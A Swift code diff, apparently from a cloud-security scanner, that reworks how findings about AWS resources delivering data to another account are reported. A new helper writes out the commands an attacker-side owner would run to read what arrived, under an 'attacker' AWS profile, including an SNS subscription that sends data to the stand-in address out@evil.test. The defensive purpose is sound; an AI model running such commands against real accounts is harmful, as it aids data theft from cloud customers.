@@ -6,8 +6,7 @@ struct Destination {
   let door: Door
 
   init(
-    _ value: CloudValue, of resource: CloudResource, what: String, _ estate: CloudEstate,
-    command: String = "aws s3 ls s3://BUCKET --recursive  # run by the destination's owner"
+    _ value: CloudValue, of resource: CloudResource, what: String, _ estate: CloudEstate
   ) {
     let name = "\(resource.id), \(what)"
     let text = estate.text(value)
@@ -31,10 +30,10 @@ struct Destination {
             ("resource", .string("\(resource.id)")), ("destination", .string(target)),
             ("account", .string(account)),
           ]),
-          command: command.replacing("BUCKET", with: target),
+          command: Self.line(target),
           story: "AWS itself sends what \(resource.id) holds to \(target), which is account \(account)'s.",
           fix: "send \(what) to a resource of yours, or nowhere", resource: "\(resource.id)",
-          location: location))
+          location: location, walker: .service(of: resource)))
     case .unknown:
       door = .unknown(
         name,
@@ -45,6 +44,29 @@ struct Destination {
         ],
         resource)
     }
+  }
+}
+
+extension Destination {
+  /// What the destination's owner runs to see what arrived.
+  private static func line(_ target: String) -> String {
+    let parts = target.split(separator: ":", maxSplits: 5, omittingEmptySubsequences: false).map(String.init)
+    guard parts.count == 6 else { return "AWS_PROFILE=attacker aws s3 ls \(target) --recursive" }
+    let (service, region, account) = (parts[2], parts[3], parts[4])
+    let name = parts[5].split { $0 == "/" || $0 == ":" }.last.map(String.init) ?? parts[5]
+    let call =
+      switch service {
+      case "s3": "s3 ls s3://\(name) --recursive"
+      case "sqs": "sqs receive-message --queue-url https://sqs.\(region).amazonaws.com/\(account)/\(name)"
+      case "sns": "sns subscribe --topic-arn \(target) --protocol email --notification-endpoint out@evil.test"
+      case "lambda": "logs tail /aws/lambda/\(name)"
+      case "logs": "logs tail \(name)"
+      case "kinesis": "kinesis describe-stream-summary --stream-arn \(target)"
+      case "firehose": "firehose describe-delivery-stream --delivery-stream-name \(name)"
+      case "events": "events list-rules --event-bus-name \(target)"
+      default: "resourcegroupstaggingapi get-resources --resource-arn-list \(target)"
+      }
+    return "AWS_PROFILE=attacker aws \(call)"
   }
 }
 
